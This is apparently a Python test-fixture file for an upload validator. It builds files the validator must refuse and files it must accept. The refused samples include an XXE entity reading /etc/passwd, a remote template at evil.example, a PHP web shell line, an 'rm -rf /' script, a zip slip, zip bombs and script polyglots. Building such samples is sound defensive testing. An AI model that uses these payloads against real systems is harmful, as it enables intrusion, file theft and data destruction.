"""Files made to harm: written here, in code, so that no scanner deletes the repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(image_format: str = "JPEG", size: tuple[int, int] = (64, 48)) -> bytes:
    """An honest photo with enough detail to need some bytes."""
    image = Image.new("RGB", size)
    image.putdata([(x * 7 % 256, x * 13 % 256, x * 29 % 256) for x in range(size[0] * size[1])])
    out = io.BytesIO()
    image.save(out, image_format)
    return out.getvalue()


def photo_with_position() -> bytes:
    """A phone photo whose EXIF says where it was taken."""
    image = Image.new("RGB", (40, 40), "white")
    exif = Image.Exif()
    exif[0x010F] = "CANARY-PHONE"
    exif.get_ifd(0x8825)[2] = (22.0, 41.0, 30.5)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"CANARY-COMMENT")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a hundred bytes whose header claims a huge surface."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 4096))
        + chunk(b"IEND", b"")
    )


def package(parts: dict[str, bytes], *, main: str = "word/document.xml") -> bytes:
    """An Office package with these parts beside the two every package has."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main, "<w:document/>")
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def plain_zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def lying_package() -> bytes:
    """A package whose directory understates how large its part grows."""
    data = bytearray(package({"word/media.bin": b"\0" * 90_000_000}))
    claimed = struct.pack("<I", 90_000_000)
    return bytes(data).replace(claimed, struct.pack("<I", 1000))


def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.4\n" + body + b"\nxref\n0 1\ntrailer<</Size 1>>\nstartxref\n9\n%%EOF\n"


def wave(seconds: float = 0.1) -> bytes:
    sound = b"\0\0" * int(8000 * seconds)
    head = struct.pack("<4sI4s4sIHHIIHH4sI", b"RIFF", 36 + len(sound), b"WAVE", b"fmt ", 16, 1, 1,
                       8000, 16000, 2, 16, b"data", len(sound))  # fmt: skip
    return head + sound


def mp3(frames: int = 8) -> bytes:
    # MPEG-1 layer III, 128 kbit/s, 44.1 kHz: 417 bytes a frame
    return (b"\xff\xfb\x90\x00" + b"\0" * 413) * frames


def mp4(brand: bytes = b"M4A ") -> bytes:
    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + kind + body

    return box(b"ftyp", brand + b"\0\0\0\0") + box(b"moov", b"\0" * 64) + box(b"mdat", b"\0" * 512)


def amr(frames: int = 20) -> bytes:
    return b"#!AMR\n" + (b"\x3c" + b"\0" * 31) * frames


ENTITY = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
REMOTE = (
    b'<Relationship Type="http://x/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/>'
)

REFUSED: dict[str, tuple[str, bytes]] = {
    "empty": ("空.jpg", b""),
    "one byte more than 10 MB": ("大.jpg", picture() + b"\0" * (10 * 1024 * 1024)),
    "eicar": ("通知.pdf", EICAR),
    "eicar inside a pdf": ("通知.pdf", pdf(EICAR)),
    "eicar behind a photo": ("照片.jpg", picture() + EICAR),
    "html as jpg": ("照片.jpg", b"<html><script>alert(1)</script></html>"),
    "svg with script": ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "svg with declaration": ("图.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
    "windows program as pdf": ("工资.pdf", b"MZ\x90\0" + b"\0" * 400),
    "linux program as jpg": ("照片.jpg", b"\x7fELF" + b"\0" * 400),
    "shell script": ("说明.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "htaccess": (".htaccess", b"AddType application/x-httpd-php .jpg"),
    "php": ("a.php", b"<?php system($_GET[0]);"),
    "60,000 squared png": ("图.png", png_claiming(60_000, 60_000)),
    "long thin png": ("图.png", png_claiming(1, 900_000)),
    "png that breaks off": ("图.png", picture("PNG")[:-60]),
    "png of header only": ("图.png", b"\x89PNG\r\n\x1a\n"),
    "jpg that breaks off": ("照片.jpg", picture("JPEG", (400, 400))[:2000]),
    "jpg of three bytes": ("照片.jpg", b"\xff\xd8\xff"),
    "gif and js": ("图.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "pdf with javascript": ("表.pdf", pdf(b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")),
    "pdf that launches": ("表.pdf", pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj")),
    "pdf and html": ("表.pdf", pdf(b"<html><script>alert(1)</script></html>")),
    "pdf that breaks off": ("表.pdf", b"%PDF-1.7\n1 0 obj<<"),
    "plain zip": ("资料.zip", plain_zip({"a.txt": b"a"})),
    "flat bomb": ("表.xlsx", package({"xl/bomb.xml": b"0" * 90_000_000}, main="xl/workbook.xml")),
    "small but steep bomb": ("表.docx", package({"word/b.xml": b"0" * 30_000_000})),
    "lying directory": ("表.docx", lying_package()),
    "70,000 entries": ("表.docx", plain_zip({f"word/{n}": b"" for n in range(70_000)})),
    "zip slip": ("表.docx", package({"../../etc/passwd": b"x"})),
    "docx with macro": ("表.docx", package({"word/vbaProject.bin": b"\0" * 20})),
    "docx with entity": ("表.docx", package({"word/a.xml": ENTITY.encode()})),
    "docx with utf-16 entity": ("表.docx", package({"word/a.xml": ENTITY.encode("utf-16")})),
    "docx with remote template": ("表.docx", package({"word/_rels/s.xml.rels": REMOTE})),
    "docx with nested zip": ("表.docx", package({"word/more.zip": b"PK"})),
    "xlsx with linked book": ("表.xlsx", package({"xl/externalLinks/1.xml": b"<a/>"},
                                                main="xl/workbook.xml")),
    "old word file": ("信.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
    "mp3 of a header": ("录音.mp3", b"ID3\x04\0\0\0\0\0\0" + b"\0" * 300),
    "mp3 and page": ("录音.mp3", mp3() + b"<html><script>alert(1)</script>"),
    "mp4 without sound": ("录音.m4a", mp4()[:16]),
    "mp4 and script": ("录音.m4a", mp4() + b"\0\0\0\x30free<script>alert(1)</script>" + b" " * 20),
    "wave that breaks off": ("录音.wav", wave()[:300]),
    "webm of a header": ("录音.webm", b"\x1aE\xdf\xa3webm" + b"\0" * 40),
    "random": ("x.bin", bytes(range(256)) * 8),
    "plain text": ("a.txt", "工资没发".encode()),
}  # fmt: skip

ACCEPTED: dict[str, tuple[str, bytes, str]] = {
    "jpg": ("工资条.jpg", picture(), "image/jpeg"),
    "png": ("截图.png", picture("PNG"), "image/png"),
    "webp": ("照片.webp", picture("WEBP"), "image/jpeg"),
    "gif": ("图.gif", picture("GIF"), "image/png"),
    "jpg called png": ("微信图片.png", picture(), "image/jpeg"),
    "wave": ("录音.wav", wave(), "audio/wav"),
    "mp3": ("录音.mp3", mp3(), "audio/mpeg"),
    "m4a": ("录音.m4a", mp4(), "audio/mp4"),
    "video": ("视频.mp4", mp4(b"isom"), "video/mp4"),
    "amr": ("语音.amr", amr(), "audio/amr"),
    "pdf": ("通知.pdf", pdf(b"1 0 obj<</Type/Catalog>>endobj"), "application/pdf"),
    "docx": ("信.docx", package({"word/styles.xml": b"<w:styles/>"}),
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": ("表.xlsx", package({}, main="xl/workbook.xml"),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
}  # fmt: skip
